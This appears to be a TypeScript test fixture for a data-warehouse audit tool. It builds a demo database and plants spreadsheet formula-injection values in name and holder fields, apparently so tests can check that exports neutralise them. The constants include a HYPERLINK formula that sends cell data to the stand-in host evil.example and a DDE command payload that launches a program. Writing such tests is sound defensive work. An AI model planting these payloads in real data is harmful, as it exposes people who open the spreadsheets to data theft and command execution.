/** The small demo warehouse, built once per test file, with a few formula-like cells planted in its files. */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openWarehouse, silentProgress, type Warehouse } from '../../warehouse/index.ts';
import { buildDemo } from '../../cli/commands/demo.command.ts';

export const MALICIOUS_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
export const MALICIOUS_HOLDER = "+cmd|' /C calc'!A0";

export interface AuditFixture {
  wh: Warehouse;
  dir: string;
  county: string;
  year: number;
}

export async function auditDemo(): Promise<AuditFixture> {
  const dir = mkdtempSync(join(tmpdir(), 'fundtrail-audit-'));
  const wh = await openWarehouse(join(dir, 'demo.duckdb'));
  const built = await buildDemo(wh, { scale: 'small', seed: 1 }, silentProgress);
  if (!built.build.ok) throw new Error('the demo models failed their tests');
  const county = await wh.value<string>(
    `select min(code) from raw.region_current where level = 'county' and code in
       (select left(village_code, 6) from raw.payments)`,
  );
  // a person and an account whose text a spreadsheet would run
  await wh.run(
    `update raw.beneficiaries set name = $1 where person_id = (
       select min(person_id) from raw.beneficiaries where village_code like $2 || '%')`,
    [MALICIOUS_NAME, county],
  );
  await wh.run(
    `update raw.accounts set holder_name = $1 where account_no = (
       select min(account_no) from raw.accounts where region_code like $2 || '%')`,
    [MALICIOUS_HOLDER, county],
  );
  await wh.run(
    `update raw.payments set name = $1 where payment_id = (
       select min(payment_id) from raw.payments where village_code like $2 || '%' and pay_month like '2020%')`,
    [MALICIOUS_NAME, county],
  );
  return { wh, dir, county, year: 2020 };
}
